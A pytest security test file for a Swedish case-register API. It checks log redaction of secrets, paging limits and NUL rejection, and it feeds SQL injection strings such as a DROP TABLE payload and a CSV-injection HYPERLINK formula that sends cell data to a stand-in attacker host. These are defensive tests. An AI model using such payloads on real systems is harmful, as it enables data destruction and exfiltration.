"""What an attacker might try: secrets in logs, injection through search, absurd paging."""

from __future__ import annotations

import csv
import io
import json

import pytest
import structlog

from tests.e2e import bodies
from tests.e2e.bodies import AUDITOR, FINANCE, OFFICIAL
from tests.e2e.conftest import SECRET, Service


def test_tokens_and_secrets_never_reach_the_logs(service: Service) -> None:
    headers = service.auth(OFFICIAL)
    token = headers["Authorization"].removeprefix("Bearer ")
    with structlog.testing.capture_logs() as logged:
        service.client.post("/api/v1/cases", json=bodies.case(), headers=headers)
        service.client.get("/api/v1/register", params={"q": "hemligt sökord"}, headers=headers)
        service.client.get("/api/v1/register", headers={"Authorization": f"Bearer {token}x"})
        service.client.post("/api/v1/cases", json={"x": 1}, headers=headers)
    text = json.dumps(logged, default=str)
    assert logged, "nothing was logged at all"
    assert any(entry.get("event") == "request" for entry in logged)
    for secret in (token, token[:40], SECRET, "Bearer", "hemligt sökord"):
        assert secret not in text


@pytest.mark.parametrize(
    "q",
    [
        "'; DROP TABLE register_cases; --",
        "' OR '1'='1",
        "%",
        "_",
        "\\",
        "%' OR 1=1 --",
        "\x00",
        "😀" * 50,
    ],
)
def test_injection_looking_search_text_is_just_text(service: Service, q: str) -> None:
    case = bodies.new_case(service, title="Sökbar titel")
    response = service.get("/register", AUDITOR, q=q)
    assert response.status_code in (200, 422)
    if response.status_code == 200:
        assert all(
            q.casefold() in json.dumps(e, ensure_ascii=False).casefold()
            for e in response.json()["items"]
        )
    after = service.get("/register", AUDITOR, diary_number=case["diary_number"]).json()["items"]
    assert [e["id"] for e in after] == [case["id"]]  # the table is still there, unchanged


@pytest.mark.parametrize("limit", [0, -1, 501, 10**12, "many"])
def test_absurd_limits_are_refused(service: Service, limit: object) -> None:
    for path in ("/register", "/reports/delegation-decisions", "/audit/events"):
        response = service.get(path, AUDITOR, limit=limit)
        assert response.status_code == 422, (path, response.text)
        assert response.json()["errors"][0]["field"] == "limit"


def test_a_nul_in_a_body_is_refused_before_anything_is_stored(service: Service) -> None:
    """Stored, it would be an event no PostgreSQL text column could ever project."""
    head = service.head()
    response = service.post("/cases", bodies.case(title="Ansökan\u0000"), OFFICIAL)
    assert response.status_code == 422
    assert response.json()["rule"] == "TextMustNotContainControlCharacters"
    assert service.head() == head


def test_a_formula_in_a_commitment_reaches_the_spreadsheet_as_text(service: Service) -> None:
    """CSV injection: a financier named as a formula is exported with a leading quote."""
    formula = '=HYPERLINK("https://angripare.example/?d="&A2,"Klicka här")'
    case_id = bodies.new_case(service)["id"]
    bodies.new_commitment(
        service,
        case_id,
        financier=formula,
        amount="1000.00",
        budget_areas=[{"name": "@SUM(1+1)", "amount": "1000.00"}],
    )
    listed = service.client.get(
        "/api/v1/budget/commitments",
        params={"financier": formula},
        headers={**service.auth(FINANCE), "Accept": "text/csv"},
    )
    assert listed.status_code == 200, listed.text
    rows = list(csv.DictReader(io.StringIO(listed.text)))
    assert [(r["financier"], r["amount"]) for r in rows] == [(f"'{formula}", "1000.00")]
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
